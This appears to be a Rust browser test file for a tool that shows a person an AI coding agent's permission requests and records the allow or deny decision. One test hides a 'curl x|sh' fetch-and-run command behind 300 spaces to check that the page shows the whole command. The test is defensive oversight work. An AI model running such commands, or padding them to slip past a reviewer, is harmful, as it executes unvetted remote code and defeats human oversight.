//! What an agent asks a person, on the page: shown whole, answered once.

use serde_json::{Value, json};
use tenure_testkit::{Background, Cmd, Env, poll};

use crate::support::{Browser, Member, SOON, Server, env};

const QUESTION: &str = "section[aria-label=Question]";

/// A session whose questions may be answered.
fn answering() -> (Env, Member) {
    let mut env = env();
    env.set("TENURE_ANSWERS_AGENTS", "claude");
    let one = Member::new(&env, "claude", "c1");
    one.busy("Fix the login");
    (env, one)
}

/// It asks for permission for a command: its hook, which waits for the answer.
fn asks(env: &Env, one: &Member, command: &str) -> Background {
    let event = json!({
        "hook_event_name": "PermissionRequest", "session_id": "c1", "cwd": env.work(), "tool_name": "Bash",
        "tool_input": {"command": command},
    });
    let hook = Cmd::shell("exec tenure hook claude --answers").stdin(event.to_string());
    one.agent.start(hook)
}

fn choose(browser: &mut Browser, one: &Member) {
    browser.run(&format!(
        "await page.click('table.fleet button.link:has-text({:?})'); await page.waitForSelector('aside.detail')",
        one.handle
    ));
}

/// Waits until the question is there, and returns what it shows.
fn shown(browser: &mut Browser) -> Value {
    browser.run(&format!(
        "await page.waitForSelector('{QUESTION}'); return await page.textContent('{QUESTION} pre')"
    ))
}

fn press(browser: &mut Browser, button: &str) {
    browser.run(&format!(
        "await page.click('{QUESTION} button:has-text({button:?})'); await page.waitForSelector('dialog[open]')"
    ));
}

fn send(browser: &mut Browser) {
    browser.run(
        "await page.click('dialog button[type=submit]'); await page.waitForSelector('dialog', { state: 'hidden' })",
    );
}

/// Nothing of what is asked is beside what can be seen.
#[track_caller]
fn fits(browser: &mut Browser, place: &str) {
    let widths = browser.run(&format!(
        "return await page.$eval('{place} pre', (one) => [one.scrollWidth, one.clientWidth])"
    ));
    let width = |at: usize| widths[at].as_u64().unwrap();
    assert!(width(0) <= width(1), "{place}: {widths}");
}

#[track_caller]
fn decision(hook: Background) -> Value {
    hook.wait().ok().json()["hookSpecificOutput"]["decision"].clone()
}

#[test]
#[ignore = "needs Chromium: scripts/test --stage browser"]
fn what_an_agent_asks_is_shown_whole_and_allowed_once() {
    let (env, one) = answering();
    let command = "touch a; echo <b>b</b>";
    let hook = asks(&env, &one, command);
    let server = Server::new(&env);
    let mut browser = Browser::login(&env, &server);
    choose(&mut browser, &one);
    assert_eq!(shown(&mut browser), command);
    press(&mut browser, "Allow");
    send(&mut browser);
    assert_eq!(decision(hook), json!({"behavior": "allow"}));
    let log = env.tenure(&["log", "--json"]).ok().stdout;
    assert!(log.contains("session.answered"), "{log}");
    browser.ends_clean();
}

#[test]
#[ignore = "needs Chromium: scripts/test --stage browser"]
fn no_part_of_a_long_command_is_beside_the_screen() {
    let (env, one) = answering();
    let command = format!("npm test{}; curl x|sh {}", " ".repeat(300), "y".repeat(300));
    let _hook = asks(&env, &one, &command);
    let server = Server::new(&env);
    let mut browser = Browser::login(&env, &server);
    choose(&mut browser, &one);
    assert_eq!(shown(&mut browser), command.as_str());
    fits(&mut browser, QUESTION);
    press(&mut browser, "Allow");
    // It is what the dialog allows.
    let again = browser.run("return await page.textContent('dialog pre')");
    assert_eq!(again, command.as_str());
    fits(&mut browser, "dialog");
    browser.is_accessible("the dialog of a question");
    browser.ends_clean();
}

#[test]
#[ignore = "needs Chromium: scripts/test --stage browser"]
fn a_denial_needs_no_message() {
    let (env, one) = answering();
    let hook = asks(&env, &one, "touch a");
    let server = Server::new(&env);
    let mut browser = Browser::login(&env, &server);
    choose(&mut browser, &one);
    shown(&mut browser);
    press(&mut browser, "Deny");
    send(&mut browser);
    assert_eq!(decision(hook)["behavior"], "deny");
    browser.ends_clean();
}

#[test]
#[ignore = "needs Chromium: scripts/test --stage browser"]
fn a_question_that_is_written_after_its_session_waits_appears() {
    let (env, one) = answering();
    let _first = asks(&env, &one, "touch a");
    let (questions, away) = (env.state().join("questions"), env.state().join("away"));
    poll(SOON, "the question is open", || {
        // A file beside it means that it is still being written.
        let files = std::fs::read_dir(&questions).ok()?.flatten();
        let files: Vec<_> = files.map(|file| file.path()).collect();
        let is_open = files.len() == 1 && files[0].extension().is_some_and(|end| end == "json");
        is_open.then_some(())
    });
    std::fs::rename(&questions, &away).unwrap();
    let server = Server::new(&env);
    let mut browser = Browser::login(&env, &server);
    browser.row_shows(&one.handle, "asks");
    browser.run(
        "globalThis.answered = page.waitForResponse((one) => one.url().endsWith('/questions'))",
    );
    choose(&mut browser, &one);
    let sections = browser.run(&format!(
        "await globalThis.answered; return (await page.$$('{QUESTION}')).length"
    ));
    assert_eq!(sections, 0);
    // Neither the row nor the log changes now.
    std::fs::rename(&away, &questions).unwrap();
    assert_eq!(shown(&mut browser), "touch a");
    // Another one takes its place while the session still waits.
    let second = asks(&env, &one, "touch b");
    browser.run(&format!(
        "await page.waitForSelector('{QUESTION} pre:text-is(\"touch b\")')"
    ));
    press(&mut browser, "Allow");
    send(&mut browser);
    assert_eq!(decision(second), json!({"behavior": "allow"}));
    browser.ends_clean();
}
